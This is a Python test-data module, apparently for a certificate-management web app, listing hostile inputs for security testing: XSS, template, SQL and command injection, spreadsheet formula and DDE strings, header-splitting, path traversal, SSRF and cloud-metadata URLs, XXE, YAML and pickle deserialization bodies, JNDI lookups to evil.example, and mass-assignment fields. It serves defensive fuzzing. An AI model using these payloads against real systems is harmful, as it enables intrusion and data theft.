# ruff: noqa: E501  # written inputs stand as they are
"""The standing abuse corpus: written inputs by class, for every face to be driven with. Data.

`names.txt` of the x509 tests and the hostile CSRs (`hostile.py`) belong to it as well.
"""

from collections.abc import Mapping

SCRIPT = "window.certdeskHit=1"
"""What a script of the corpus does where one runs."""

XSS = (
    f"<script>{SCRIPT}</script>",
    f'"><script>{SCRIPT}</script>',
    f"'><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"</textarea><script>{SCRIPT}</script>",
    f"</script><script>{SCRIPT}</script>",
    f"<ScRiPt>{SCRIPT}</sCrIpT>",
    f"<img src=x onerror={SCRIPT}>",
    f'" onmouseover="{SCRIPT}" autofocus onfocus="{SCRIPT}',
    f"' autofocus onfocus='{SCRIPT}",
    f"` onfocus={SCRIPT} `",
    f"<svg/onload={SCRIPT}>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<details open ontoggle={SCRIPT}>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'>",
    f"<body onload={SCRIPT}>",
    f'<a href="javascript:{SCRIPT}">x</a>',
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt;",
    f"&#60;script&#62;{SCRIPT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{SCRIPT}\\u003c/script\\u003e",
    f"%3Cscript%3E{SCRIPT}%3C/script%3E",
    f"<div hx-get=/logout hx-trigger=load>{SCRIPT}</div>",
    f"<form action=//evil.example><input name=csrfmiddlewaretoken>{SCRIPT}",
    f"<base href=//evil.example>{SCRIPT}",
    f"<meta http-equiv=refresh content='0;url=//evil.example'>{SCRIPT}",
    f"<link rel=stylesheet href=//evil.example>{SCRIPT}",
    f"<math><mtext><script>{SCRIPT}</script>",
    f"<!--><script>{SCRIPT}</script>",
)
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}", "{{ settings.SECRET_KEY }}", "{{request.user}}",
    "{0.__class__}", "{settings}", "%(secret)s", "%s%s%s%n", "$(id)", "`id`", "|id", ";id", "&&id", "\\$(id)",
    "${jndi:ldap://evil.example/a}", "@{7*7}", "*{7*7}", "{{constructor.constructor('x')()}}", "[[7*7]]",
)  # fmt: skip
SQL = (
    "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "'; DROP TABLE iam_user; --", "1; SELECT pg_sleep(5)",
    "' UNION SELECT NULL--", "') OR ('1'='1", "1 OR 1=1", "\\' OR 1=1 --", "%' OR '%'='", "admin'--", "%", "%%",
    "_", "____", "\\", "\\%", "[a-z]", "*", "?", "%_%", "a' || 'b", "NULL", "0x27", "x'00'", "$$", "%27%20OR",
    "' AND sleep(5)='", "'||pg_sleep(5)||'", "randomblob(1000000000)", "' || load_extension('x') || '",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\")",
    "=IMPORTXML(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1", "＋1", "＠SUM",
    " =1+1", "\"=1+1\"", "=1+1;", "%0A=1", "=DDE(\"cmd\")", "|=1",
)  # fmt: skip
LINES = (
    "a\r\nSet-Cookie: evil=1", "a\nb", "a\rb", "a\r\n\r\n<html>", "%0d%0aSet-Cookie:%20evil=1", "a\u2028b",
    "a\u2029b", "a\x0bb", "a\x0cb", "a\x85b", "a\x1b[31mred", "a\x1b]0;title\x07", "a\x08\x08b", "a\x7fb",
    "a\x01b", "a\x1fb", "a\r\nBcc: evil@evil.example", "a\n{\"event\": \"forged\"}", "\n", "\r\n",
    "a\x9b31mred", "INFO\t forged",
)  # fmt: skip
UNICODE = (
    "\u202eevil\u202c", "a\u202db", "\u2066a\u2069", "\u200b", "a\u200bb", "\ufeffa", "a\u00adb", "e\u0301",
    "\u00e9", "\u212a", "\u0130", "ﬃ", "ß", "\U0001f600", "\U0001f468\u200d\U0001f469", "\ud800", "\udfff",
    "a\ud83d", "\uffff", "\ufffe", "\U0010ffff", "Z͑ͫ̓a̴l̵g̷o" * 8, "ＡＤＭＩＮ", "аdmin", "a\u034fb", "\u3164", "\u115f",
    "\u061c", "ᅠ", "\u180e", "١٢٣", "①", "½", "\u2024", "例子.测试", "xn--", "xn--a", "xn--zzzzzzzz", "xn--fiqs8s",
    "xn--" + "a" * 60, "XN--FIQS8S", "xn--ls8h.example.com",
)  # fmt: skip
NUL = ("\x00", "a\x00b", "admin\x00", "\x00.example.com", "%00", "a%00b", "\\x00", "\\u0000")
PATHS = (
    "../", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "\\\\evil\\share",
    "....//....//etc/passwd", "..%2f..%2fetc%2fpasswd", "..%252f..%252fetc", "..%c0%af..%c0%af", "file:///etc/passwd",
    ".", "..", "...", "./.", "~root", "CON", "NUL", "aux.txt", "con.pem", "a" * 300, "a/b", "a\\b", ".htaccess",
    "a.pem/../../b", "-rf", "--help", "a;b", "a|b", "a:b", "a\x00.pem", "%2e%2e%2f",
)  # fmt: skip
SSRF = (
    "http://127.0.0.1/", "http://127.1/", "http://0.0.0.0/", "http://[::1]/", "http://[::ffff:127.0.0.1]/",
    "http://0x7f.1/", "http://2130706433/", "http://0177.0.0.1/", "http://169.254.169.254/latest/meta-data/",
    "http://[fd00::1]/", "http://100.64.0.1/", "http://localhost/", "http://localhost.localdomain:22/",
    "http://a@127.0.0.1/", "http://127.0.0.1#@example.com/", "http://example.com@127.0.0.1/",
    "http://127.0.0.1%00.example.com/", "http://127。0。0。1/", "http://①②⑦.0.0.1/", "gopher://127.0.0.1:25/_",
    "file:///etc/passwd", "dict://127.0.0.1:11211/", "ftp://127.0.0.1/", "ldap://127.0.0.1/", "jar:http://x!/",
    "//127.0.0.1/", "http:127.0.0.1", "http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.0.1/",
    "127.0.0.1", "127.0.0.1:6379", "::1", "[::1]:53", "0", "localhost", "metadata.google.internal",
)  # fmt: skip
SIZES = (
    "", " ", "\t", "a" * 63, "a" * 64, "a" * 65, "a" * 253, "a" * 254, "a" * 255, "a" * 256, "a" * 512, "a" * 513,
    "a" * 4096, "a" * 4097, "a" * 70_001, ("a" * 63 + ".") * 4 + "com", ("a" * 64 + ".") + "com", "." * 300,
    "a." * 127, "a," * 300, ";" * 500, "例" * 600,
)  # fmt: skip
PEM = (
    "-----BEGIN CERTIFICATE-----", "-----END CERTIFICATE-----", "-----BEGIN CERTIFICATE-----\n-----END CERTIFICATE-----",
    "-----BEGIN CERTIFICATE-----\n!!!!\n-----END CERTIFICATE-----", "-----BEGIN X-----\nAAAA\n-----END X-----",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n" * 200, "-----BEGIN " * 1000,
    "-----BEGIN CERTIFICATE-----\n" + "A" * 60_000 + "\n-----END CERTIFICATE-----", "MIIBszCCAVmgAwIBAgI", "\x30\x82",
    "-----BEGIN CERTIFICATE-----\n" + "MIAw" * 4000 + "\n-----END CERTIFICATE-----",
    "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----",
    "-----BEGIN ENCRYPTED PRIVATE KEY-----\nAAAA\n-----END ENCRYPTED PRIVATE KEY-----",
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\nAAAA\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----",
    "-----BEGIN CERTIFICATE REQUEST-----\nAAAA\n-----END CERTIFICATE REQUEST-----",
    "-----BEGIN PKCS7-----\nAAAA\n-----END PKCS7-----", "-----BEGIN X509 CRL-----\nAAAA\n-----END X509 CRL-----",
)  # fmt: skip
ADDRESSES = (
    "a@b", "a@b@c", "@", "a@", "@b.com", "a b@c.com", "\"a b\"@c.com", "a@[127.0.0.1]", "a@127.0.0.1", "a@localhost",
    "a@c.com\nBcc: x@y.z", "a@c.com,b@c.com", "a@c.com;b@c.com", "<a@c.com>", "A <a@c.com>", "a@c.com>", "a@例子.测试",
    "а@c.com", "a" * 65 + "@c.com", "a@" + "b" * 64 + ".com", "a@-b.com", "a@b..com", ".a@b.com", "a..b@c.com",
    "a@b.com\x00", "postmaster@b.com%0aCc:x", "a+b@c.com", "a@c.com (x)", "=?utf-8?q?a?=@c.com", "a@xn--a.com",
)  # fmt: skip
DATES = (
    "2026-02-30", "0000-00-00", "9999-12-31", "99999-01-01", "-0001-01-01", "2026-13-01", "2026-11-25T25:00:00Z",
    "now", "1e9", "2026-11-25 00:00:00; --", "٢٠٢٦-١١-٢٥", "2026/11/25", "25.11.2026", "2026-W48", "1970-01-01",
)  # fmt: skip

TEXTS: Mapping[str, tuple[str, ...]] = {
    "scripts": XSS,
    "templates": TEMPLATES,
    "SQL and LIKE": SQL,
    "formulas": FORMULAS,
    "line ends and controls": LINES,
    "unicode": UNICODE,
    "NUL": NUL,
    "paths": PATHS,
    "server-side requests": SSRF,
    "sizes": SIZES,
    "PEM": PEM,
    "mail addresses": ADDRESSES,
    "dates": DATES,
}

VALUES: Mapping[str, str] = {
    "number": "7", "negative": "-1", "float": "1.5", "huge": "1" + "0" * 400, "exponent": "1e400", "true": "true",
    "null": "null", "list": "[]", "object": "{}", "nested list": "[[[[1]]]]", "list of objects": "[{}]",
    "mongo": '{"$ne": ""}', "prototype": '{"__proto__": {"admin": true}}', "2^63": "9223372036854775808",
    "-2^63-1": "-9223372036854775809", "empty text": '""', "long list": "[" + "1," * 5000 + "1]",
    "deep": "[" * 31 + "]" * 31, "deeper": "[" * 200 + "]" * 200, "zero": "0", "minus zero": "-0",
    "text of a number": '"7"', "leading zeros": '"007"', "text true": '"true"',
}  # fmt: skip
"""JSON of wrong types, put where a field wants another one."""

BODIES: Mapping[str, bytes] = {
    "empty": b"", "space": b" ", "no JSON": b"a=b", "cut": b'{"name": "a', "NaN": b'{"name": NaN}',
    "Infinity": b'{"name": Infinity}', "comment": b'{"name": "a" /* x */}', "trailing comma": b'{"name": "a",}',
    "single quotes": b"{'name': 'a'}", "byte order mark": b'\xef\xbb\xbf{"name": "a"}', "UTF-16": '{"name": "a"}'.encode("utf-16"),
    "UTF-32": '{"name": "a"}'.encode("utf-32"), "not UTF-8": b'{"name": "\xff\xfe"}', "overlong": b'{"name": "\xc0\xaf"}',
    "surrogate": b'{"name": "\\ud800"}', "NUL escaped": b'{"name": "a\\u0000b"}', "NUL raw": b'{"name": "a\x00b"}',
    "the key twice": b'{"name": "a", "name": "b"}', "the key twice, types differ": b'{"name": "a", "name": []}',
    "a list": b"[]", "a text": b'"a"', "a number": b"1", "null": b"null", "true": b"true", "two values": b"{}{}",
    "objects 100,000 deep": b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "lists 400,000 deep": b"[" * 400_000,
    "a key of 500,000": b'{"' + b"a" * 500_000 + b'": 1}', "60,000 keys": b"{" + b",".join(b'"%d":1' % n for n in range(60_000)) + b"}",
    "a number of 500,000 digits": b'{"name": ' + b"9" * 500_000 + b"}", "1e999999999": b'{"name": 1e999999999}',
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "billion laughs": b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>', "YAML": b"!!python/object/apply:os.system [id]",
    "pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.", "gzip": b"\x1f\x8b\x08\x00" + b"\x00" * 60,
    "1 MiB and a byte": b'{"name": "' + b"a" * (1024 * 1024 - 11) + b'"}',
}  # fmt: skip

EXTRA_FIELDS: Mapping[str, object] = {
    "id": "scs0000000000000", "account_id": "x", "account": "other", "owner_id": "x", "user_id": "x", "state": "ISSUED",
    "status": "ISSUED", "is_admin": True, "is_superuser": True, "is_staff": True, "role": "admin", "groups": ["admins"],
    "amount": "0.00", "price": 0, "paid": True, "cash": "1000000", "created_at": "2000-01-01", "not_after": "2999-01-01",
    "enabled": True, "special_enterprise": True, "real_name_verified": True, "private_key": "x", "key_id": "x",
    "secret_key": "x", "fingerprint": "x", "issuer": "builtin", "validity_months": 999, "order_id": "x", "__class__": "x",
    "__proto__": {"admin": True}, "constructor": {"prototype": {}}, "_state": "x", "version": 99,
}  # fmt: skip
"""Fields that a request has no business to bring: taken for none of them (mass assignment)."""
